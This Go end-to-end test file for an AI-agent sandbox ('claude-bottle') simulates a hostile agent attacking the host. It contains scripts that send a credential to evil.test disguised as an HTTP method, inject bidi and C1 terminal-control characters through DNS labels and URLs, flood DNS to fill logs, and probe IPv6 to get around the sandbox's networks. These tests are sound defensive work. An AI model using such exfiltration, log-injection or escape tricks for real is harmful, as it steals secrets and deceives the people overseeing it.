// Package hostside holds the scenarios where the agent attacks the person
// through what the host shows and keeps: credentials in the decision log,
// terminal controls in what `claude-bottle logs` prints, a log that fills
// the disk, and IPv6 around the bottle's IPv4-only networks. Each runs the
// built binary against the real engine, the attack from inside a real
// bottle.
package hostside

import (
	"context"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/claude-bottle/claude-bottle/e2e/e2etest"
	"github.com/claude-bottle/claude-bottle/internal/audit"
	"github.com/claude-bottle/claude-bottle/internal/docker"
	"github.com/claude-bottle/claude-bottle/internal/plan"
	"github.com/claude-bottle/claude-bottle/internal/stage"
)

// ipv6Probe prints what IPv6 the container has: its addresses, whether it
// can talk to itself over ::1, and whether it can send to every node on its
// link (ff02::1, which on a bridge includes the host's end; a discard-port
// datagram on a network the test or the bottle made).
const ipv6Probe = `
import os, socket, time
n = 0
if os.path.exists('/proc/net/if_inet6'):
    n = len([l for l in open('/proc/net/if_inet6') if l.strip()])
loop = 'fail'
try:
    s = socket.socket(socket.AF_INET6)
    s.bind(('::1', 0)); s.listen(1)
    c = socket.create_connection(('::1', s.getsockname()[1]), timeout=3)
    loop = 'ok'
except Exception:
    pass
link = 'fail'
# A fresh link-local address is tentative for a second or two (duplicate
# address detection): keep trying for a while before calling it off.
for _ in range(50):
    try:
        u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        u.sendto(b'probe', ('ff02::1%eth0', 9))
        link = 'ok'
        break
    except Exception:
        time.sleep(0.1)
print('ipv6 addrs=%d loop=%s link=%s' % (n, loop, link))
`

var probeRE = regexp.MustCompile(`ipv6 addrs=(\d+) loop=(ok|fail) link=(ok|fail)`)

func probeResult(t *testing.T, out string) (int, string, string) {
	t.Helper()
	m := probeRE.FindStringSubmatch(out)
	if m == nil {
		t.Fatalf("no probe line in:\n%s", out)
	}
	n, _ := strconv.Atoi(m[1])
	return n, m[2], m[3]
}

// minimalBottle pins no runtime; the log scenarios use runcBottle: they
// test what the host keeps and shows, and need the agent's name lookups,
// which the engine's embedded DNS serves under runc.
const minimalBottle = `
agents:
  agent:
    bottle: box
bottles:
  box: {}
`

var runcBottle = strings.Replace(minimalBottle, "box: {}", "box:\n    runtime: runc", 1)

// The agent has no IPv6 at all: no address, not even on loopback, and no
// way onto its link. Docker 20.10 itself turns IPv6 off in a container on
// an IPv4-only network, but newer engines and others leave it on (with
// link-local addresses); the control plays such an engine, the same image
// on a network the test made with IPv6 switched on, and has all three, so
// the probe would see IPv6 if the bottle had it.
func TestAgentHasNoIPv6(t *testing.T) {
	c := e2etest.Engine(t)
	e2etest.Images(t)
	refs, err := plan.Refs(map[string]string{"CLAUDE_BOTTLE_IMAGE_TAG": os.Getenv("CLAUDE_BOTTLE_IMAGE_TAG")})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()

	id := e2etest.Start(t, c, docker.ContainerSpec{
		Image: refs.Agent, Network: e2etest.Network(t, c), User: plan.AgentUser,
		Cmd: []string{"python3", "-c", ipv6Probe}, CapDrop: []string{"ALL"},
		Sysctls: map[string]string{"net.ipv6.conf.all.disable_ipv6": "0", "net.ipv6.conf.default.disable_ipv6": "0"},
	})
	if _, err := c.Wait(ctx, id); err != nil {
		t.Fatal(err)
	}
	out, err := c.Logs(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	if n, loop, link := probeResult(t, string(out)); n == 0 || loop != "ok" || link != "ok" {
		t.Fatalf("control: a container with IPv6 on shows addrs=%d loop=%s link=%s: the probe cannot see IPv6, so the bottle's result proves nothing", n, loop, link)
	}

	// runc applies the plan's sysctls; auto picks gVisor where it works,
	// which ignores them (its own network stack decides).
	for _, rt := range []string{"runc", "auto"} {
		t.Run(rt, func(t *testing.T) {
			e := e2etest.NewEnv(t, strings.Replace(runcBottle, "runc", rt, 1))
			r := runAgent(t, ctx, c, e, e2etest.Unique("cbt-v6"), "", "python3", "-c", ipv6Probe)
			if n, loop, link := probeResult(t, r.Stdout); n != 0 || loop != "fail" || link != "fail" {
				t.Errorf("the agent has IPv6 under runtime %s: addrs=%d loop=%s link=%s", rt, n, loop, link)
			}
		})
	}
}

const manifestViews = `
agents:
  agent:
    bottle: box
bottles:
  box:
    runtime: runc
    cred_proxy:
      routes:
        - name: api
          path: /api/
          upstream: https://api.canary.test
          credentials:
            - env: E2E_TOKEN
              header: Authorization
              format: "Bearer {token}"
`

// The agent writes a known credential where the sidecars log verbatim (as
// the HTTP method, raw and hex-encoded) and bidi and C1 controls where
// they log hosts and paths. The log holds no form of the credential and no
// raw control; `claude-bottle logs` shows the controls escaped, and so
// does a real terminal (tmux) running it.
func TestLogsHoldNoCredentialAndShowControlsEscaped(t *testing.T) {
	c := e2etest.Engine(t)
	e2etest.Images(t)
	e := e2etest.NewEnv(t, manifestViews)
	inst := e2etest.Unique("cbt-views")
	token := "sk-canary-" + strings.TrimPrefix(e2etest.Unique("x"), "x-") + "c0ffee42"
	e.Vars["E2E_TOKEN"] = token
	// net/http refuses a method with base64's "/" or "=": hex passes.
	hexTok := hex.EncodeToString([]byte(token))

	script := `
cat > /tmp/raw.py <<'PY'
import socket, sys
s = socket.create_connection(('egress', 3128), timeout=10)
s.sendall(sys.argv[1].encode().decode('unicode_escape').encode('latin-1'))
print('raw', s.recv(200).split(b'\r\n')[0].decode('latin-1'))
PY
cat > /tmp/dns.py <<'PY'
import socket, struct
ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
for label in ['evil\u202etxt'.encode(), b'x\xc2\x9b31m', b'test']:
    q += bytes([len(label)]) + label
q += b'\x00' + struct.pack('>HH', 1, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
u.sendto(q, (ns, 53))
print('dns', len(u.recv(512)))
PY
python3 /tmp/raw.py '` + token + ` http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n'
python3 /tmp/raw.py '` + hexTok + ` http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n'
python3 /tmp/dns.py
curl -s -o /dev/null -w 'egress %{http_code}\n' 'http://evil.test/%E2%80%AEtxt.exe%C2%9B31m'
curl -s -o /dev/null -w 'cred-proxy %{http_code}\n' --noproxy '*' 'http://cred-proxy:8080/nothing/%E2%80%AE%C2%9B2J'
echo views-done
`
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()
	r := runAgent(t, ctx, c, e, inst, "views-done", "sh", "-c", "exec 2>&1\n"+script)

	t.Logf("agent output:\n%s", r.Stdout)
	dir := stage.LogDir(e.State, inst)
	files, _ := filepath.Glob(filepath.Join(dir, "*.jsonl"))
	all := ""
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		all += string(b)
		for _, ch := range []string{"\u202e", "\u009b"} {
			if strings.Contains(string(b), ch) {
				t.Errorf("%s holds %q raw", filepath.Base(f), ch)
			}
		}
	}
	for name, form := range map[string]string{"raw": token, "hex": hexTok} {
		if strings.Contains(strings.ToLower(all), strings.ToLower(form)) {
			t.Errorf("the decision log holds the credential (%s)", name)
		}
	}
	// The attacks reached the log (or the test proves nothing). egress
	// does not log a method it does not know before the canary has read
	// it, so the two refusals name the method without quoting it; the
	// writer's redaction of any field is unit-tested in internal/audit.
	for _, want := range []string{`\u202etxt.exe\u009b31m`, `"path":"/nothing/%E2%80%AE%C2%9B2J"`} {
		if !strings.Contains(all, want) {
			t.Errorf("the decision log lacks %s", want)
		}
	}
	if strings.Count(all, `"reason":"secret canary"`) < 2 || !strings.Contains(all, "(raw) appeared in the method") || !strings.Contains(all, "(hex) appeared in the method") {
		t.Errorf("the credential as method, raw and hex, is not refused and logged twice by the canary")
	}

	lr := e.Run(ctx, "logs", inst)
	if lr.Code != 0 {
		t.Fatalf("logs: %s", lr)
	}
	for _, ch := range []string{"\u202e", "\u009b", token} {
		if strings.Contains(lr.Stdout, ch) {
			t.Errorf("`logs` prints %q", ch)
		}
	}
	if !strings.Contains(lr.Stdout, `\u202etxt.exe\u009b31m`) {
		t.Errorf("`logs` does not show the path escaped:\n%s", lr.Stdout)
	}

	if t.Failed() {
		t.Logf("decision log:\n%s", all)
	}
	// What a person's terminal shows: tmux runs `logs`, and its screen
	// holds the escapes as text, in order.
	pane := tmuxCapture(t, e, "logs", inst)
	for _, want := range []string{`\u202etxt.exe\u009b31m`, `/nothing/%E2%80%AE%C2%9B2J`, "appeared in the method"} {
		if !strings.Contains(strings.ReplaceAll(pane, "\n", ""), want) {
			t.Errorf("the terminal does not show %s:\n%s", want, pane)
		}
	}
}

// runAgent runs the bottle as instance inst with the agent command cmd,
// checks it ended well (its output holding done, if given) and left
// nothing behind, and returns what it printed.
func runAgent(t *testing.T, ctx context.Context, c *docker.Client, e *e2etest.Env, inst, done string, cmd ...string) e2etest.Result {
	t.Helper()
	e.Vars["CLAUDE_BOTTLE_CONTAINER"] = inst
	r := e.Run(ctx, append([]string{"run", "agent", "--"}, cmd...)...)
	if r.Code != 0 || !strings.Contains(r.Stdout, done) {
		t.Fatalf("run: %s", r)
	}
	e2etest.AssertGone(t, c, e.State, inst)
	return r
}

// tmuxCapture runs the binary with args in a detached tmux session the
// size of a wide terminal and returns the screen once the command is done.
func tmuxCapture(t *testing.T, e *e2etest.Env, args ...string) string {
	t.Helper()
	if _, err := exec.LookPath("tmux"); err != nil {
		t.Fatalf("tmux is needed to check what a terminal shows: %v", err)
	}
	session := e2etest.Unique("cbt-tmux")
	cmdline := fmt.Sprintf("env CLAUDE_BOTTLE_STATE_DIR=%s %s %s; echo tmux-done; sleep 60", e.State, e.Bin, strings.Join(args, " "))
	if out, err := exec.Command("tmux", "new-session", "-d", "-s", session, "-x", "400", "-y", "100", cmdline).CombinedOutput(); err != nil {
		t.Fatalf("tmux: %v: %s", err, out)
	}
	defer exec.Command("tmux", "kill-session", "-t", session).Run()
	deadline := time.Now().Add(30 * time.Second)
	for {
		out, err := exec.Command("tmux", "capture-pane", "-p", "-J", "-t", session).Output()
		if err == nil && strings.Contains(string(out), "tmux-done") {
			return string(out)
		}
		if time.Now().After(deadline) {
			t.Fatalf("tmux never finished (%v):\n%s", err, out)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// The DNS stub logs every query, and the agent makes as many as it likes:
// the egress log stops at its bound, counts what it drops, and `logs` says
// how many. The log starts nearly full (as after a long session) so that
// a few hundred queries cross the bound.
func TestDNSFloodIsBounded(t *testing.T) {
	c := e2etest.Engine(t)
	e2etest.Images(t)
	e := e2etest.NewEnv(t, runcBottle)
	inst := e2etest.Unique("cbt-flood")
	dir := stage.LogDir(e.State, inst)
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "egress.jsonl")
	filler := `{"time":"2026-01-01T00:00:00Z","sidecar":"egress","kind":"filler","detail":"` +
		strings.Repeat("x", int(audit.DefaultMaxBytes)-16<<10) + `"}` + "\n"
	if err := os.WriteFile(path, []byte(filler), 0o600); err != nil {
		t.Fatal(err)
	}
	const queries = 400
	script := fmt.Sprintf(`for i in $(seq %d); do getent hosts q$i.flood.test >/dev/null; done; echo flood-done`, queries)
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()
	runAgent(t, ctx, c, e, inst, "flood-done", "sh", "-c", script)

	info, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if info.Size() > audit.DefaultMaxBytes+4<<10 {
		t.Errorf("egress.jsonl grew to %d bytes, past its bound of %d", info.Size(), audit.DefaultMaxBytes)
	}
	lr := e.Run(ctx, "logs", inst)
	if lr.Code != 0 {
		t.Fatalf("logs: %s", lr)
	}
	m := regexp.MustCompile(`"detail":"(\d+) events were dropped: the egress log reached its bound`).FindStringSubmatch(lr.Stdout)
	if m == nil {
		t.Fatalf("`logs` does not say events were dropped:\n%s", tail(lr.Stdout))
	}
	// Each lookup asks for A and AAAA, a search domain may add more: at
	// least half the queries of the flood are over the bound.
	if n, _ := strconv.Atoi(m[1]); n < queries/2 {
		b, _ := os.ReadFile(path)
		t.Errorf("only %d events counted as dropped; the log's end:\n%s", n, tail(string(b)))
	}
	if !strings.Contains(lr.Stdout, `"kind":"log-full"`) {
		t.Errorf("no log-full line:\n%s", tail(lr.Stdout))
	}
}

func tail(s string) string {
	if len(s) > 3000 {
		return "…" + s[len(s)-3000:]
	}
	return s
}
